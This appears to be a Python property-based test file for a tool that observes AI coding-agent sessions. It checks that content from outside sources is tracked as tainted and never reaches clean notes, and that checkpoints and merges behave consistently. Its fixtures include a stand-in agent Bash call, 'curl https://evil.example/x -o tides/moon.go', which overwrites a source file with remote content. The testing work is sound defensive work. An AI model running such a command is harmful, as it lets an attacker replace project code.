"""Random sessions: checkpoints change nothing, outside content never enters a clean note, work and size are bounded."""

import json
import sys
from collections.abc import Iterator, Sequence
from typing import Any

from hypothesis import given
from hypothesis import strategies as st

from tests.session_events import GO_FAILURE, ROOT, new_pad, pad_of
from treering.observe.scratchpad import Scratchpad, merged
from treering.observe.scratchpad.activity import TABLES
from treering.observe.signals import Note, notes_of

POISON = "zqxpoison"
PATHS = ("tides/tide.go", "tides/moon.go", "pkg/tide.go", "pyproject.toml", "tides/tide_test.go", "docs/tide.md")
COMMANDS = ("go test ./...", "go build ./...", "make migrate", "git commit -m x", "ls tides", "cat tides/tide.go")
TEXTS = ("ok", GO_FAILURE, "No matches found", "tides/tide.go\ntides/moon.go\n", "import tide\nimport moon\n", "")
SENTENCES = (
    "I was wrong about the tide table: it is sorted by draught, not by arrival.",
    "This approach won't work because the clock is created too early. Let me use a fake one instead.",
    "Always use pnpm in this repository.",
    "Now I run the tests.",
)

paths = st.sampled_from(PATHS).map(lambda path: f"{ROOT}/{path}")
lines = st.sampled_from(("level := Lowest()", "level := Highest(moon)", "return level * 100"))
calls = st.one_of(
    st.tuples(st.just("Read"), st.fixed_dictionaries({"file_path": paths})),
    st.tuples(st.just("Edit"), st.fixed_dictionaries({"file_path": paths, "old_string": lines, "new_string": lines})),
    st.tuples(st.just("Bash"), st.fixed_dictionaries({"command": st.sampled_from(COMMANDS)})),
    st.tuples(st.just("Grep"), st.fixed_dictionaries({"pattern": st.sampled_from(("Lowest", "moon"))})),
    st.tuples(st.just("Glob"), st.fixed_dictionaries({"pattern": st.just("**/*.go")})),
    st.tuples(st.just("TodoWrite"), st.fixed_dictionaries({"todos": st.lists(st.just({"status": "completed"}))})),
)
outside_calls = st.sampled_from(
    (
        ("WebFetch", {"url": "https://evil.example/page"}),
        ("mcp__tracker__get", {"id": "1"}),
        ("Bash", {"command": "curl https://evil.example/x -o tides/moon.go"}),
    )
)


@st.composite
def sessions(draw: st.DrawFn, *, with_outside: bool = True) -> list[dict[str, Any]]:
    """Events in a random order: results late, lost, twice or without their call; clocks that jump.

    From the first outside call on, each text contains the poison.
    """
    events: list[dict[str, Any]] = []
    pending: list[dict[str, Any]] = []
    poisoned, at = False, 1_772_442_000.0
    for number in range(draw(st.integers(0, 60))):
        at += draw(st.sampled_from((0.0, 1.0, 30.0, -5.0, -4_000.0)))
        stamp = {"id": f"e{number}", "at": draw(st.sampled_from((at, None)))}
        choice = draw(st.integers(0, 19))
        if choice == 0 and with_outside:
            poisoned = True
        mark = f" {POISON}" if poisoned else ""
        if choice <= 8:
            outside = choice == 0 and with_outside
            tool, arguments = draw(outside_calls if outside else calls)
            if mark and "pattern" in arguments:
                arguments = {"pattern": arguments["pattern"] + mark}
            call = {"kind": "tool_call", "tool": tool, "call_id": f"c{number}", "arguments": arguments, **stamp}
            pending.append(call)
            events.append(call)
        elif choice <= 15 and pending:
            call = pending.pop(draw(st.integers(0, len(pending) - 1)))
            text = draw(st.sampled_from(TEXTS)) + mark
            result = {"kind": "tool_result", "call_id": call["call_id"], "text": text, **stamp}
            events.append({**result, "is_error": "FAIL" in text})
        elif choice == 16 and events:
            events.append(draw(st.sampled_from(events)))
        else:
            kind = draw(st.sampled_from(("prompt", "reasoning")))
            events.append({"kind": kind, "text": f"{draw(st.sampled_from(SENTENCES))[:-1]}{mark}.", **stamp})
    return events


def first_outside(events: Sequence[dict[str, Any]]) -> int:
    """Place of the first event that is poisoned or brings outside content; the number of events without one."""
    labelled = (
        place
        for place, event in enumerate(events)
        if POISON in json.dumps(event)
        or "evil.example" in json.dumps(event)
        or event.get("tool") == "mcp__tracker__get"
    )
    return next(labelled, len(events))


def as_json(note: Note) -> str:
    return json.dumps([note.signal, note.subject, dict(note.data), note.files, note.step, note.taint])


@given(sessions(), st.data())
def test_going_on_from_a_checkpoint_gives_the_same_notes(events: list[dict[str, Any]], data: st.DataObject) -> None:
    whole = pad_of(events)
    place = data.draw(st.integers(0, len(events)))
    stored = json.dumps(pad_of(events[:place]).state())
    pad = Scratchpad.from_state(json.loads(stored))
    assert json.loads(stored) == pad.state()
    for event in events[place:]:
        pad.add(event)
    assert whole.errors == 0
    assert notes_of(pad) == notes_of(whole)
    assert pad.alerts() == whole.alerts()
    assert pad.state() == whole.state()


@given(sessions())
def test_a_clean_note_uses_nothing_since_the_first_outside_content(events: list[dict[str, Any]]) -> None:
    pad = pad_of(events)
    place = first_outside(events)
    before = {as_json(note) for note in notes_of(pad_of(events[:place]))}
    for note in notes_of(pad):
        if note.taint is None:
            assert as_json(note) in before
            assert POISON not in as_json(note)
    assert (pad.taint is None) == (place == len(events))
    for alert in pad.alerts():
        assert alert.taint is not None or POISON not in alert.text


@given(st.lists(sessions(), min_size=1, max_size=3))
def test_a_merge_keeps_clean_notes_clean(streams: list[list[dict[str, Any]]]) -> None:
    pads = [pad_of(events, f"agent-{number}") for number, events in enumerate(streams)]
    pad = merged(pads, lambda first, second: 1.0 if first[:20] == second[:20] else 0.0)
    cleans = [notes_of(pad_of(events[: first_outside(events)])) for events in streams]
    clean = {(note.signal, note.subject) for notes in cleans for note in notes}
    for note in notes_of(Scratchpad.from_state(json.loads(json.dumps(pad.state())))):
        assert note.agents <= len(pads)
        if note.taint is None:
            assert POISON not in as_json(note)
            assert note.signal == "parallel_conflict" or (note.signal, note.subject) in clean
            # Similar subjects share a signal, so that at most these many agents made the observation in a clean state.
            assert note.signal == "parallel_conflict" or note.agents <= sum(
                any(each.signal is note.signal for each in notes) for notes in cleans
            )


@given(sessions(with_outside=False), st.randoms(use_true_random=False))
def test_events_in_any_order_are_taken(events: list[dict[str, Any]], random: Any) -> None:
    shuffled = [*events]
    random.shuffle(shuffled)
    pad = pad_of(shuffled)
    assert pad.errors == 0
    assert pad.events == len(events)
    notes_of(pad)


def test_the_work_of_an_event_does_not_grow_with_the_session() -> None:
    """Function calls of an event, counted by the interpreter, in the middle and at the end of a long session."""
    pad = new_pad()
    stream = _long_session()
    early = [_function_calls(pad, next(stream)) for _ in range(2_000)][1_000:]
    for _ in range(16_000):
        pad.add(next(stream))
    late = [_function_calls(pad, next(stream)) for _ in range(2_000)][1_000:]
    assert sum(late) <= 1.5 * sum(early)
    assert all(len(getattr(pad.activity, name)) <= spec.cap for name, spec in TABLES.items())
    assert len(json.dumps(pad.state())) < 4_000_000


def _long_session() -> Iterator[dict[str, Any]]:
    number = 0
    while True:
        number += 1
        tool, arguments, text = (
            ("Read", {"file_path": f"{ROOT}/p{number % 89}/{number % 2_003}.go"}, "import tide\n"),
            ("Edit", {"file_path": f"{ROOT}/p{number % 89}/{number % 2_003}.go", "new_string": f"level{number}"}, "ok"),
            ("Bash", {"command": f"go test ./p{number % 997}"}, GO_FAILURE.replace("Tide", f"T{number % 997}x")),
            ("Grep", {"pattern": f"word{number % 1_009}"}, "No matches found"),
        )[number % 4]
        yield {"kind": "tool_call", "tool": tool, "call_id": f"c{number}", "arguments": arguments}
        yield {"kind": "tool_result", "call_id": f"c{number}", "text": text, "is_error": "FAIL" in text}


def _function_calls(pad: Scratchpad, event: dict[str, Any]) -> int:
    count = 0

    def counting(frame: object, what: str, argument: object) -> None:
        nonlocal count
        count += what in ("call", "c_call")

    sys.setprofile(counting)
    try:
        pad.add(event)
    finally:
        sys.setprofile(None)
    return count
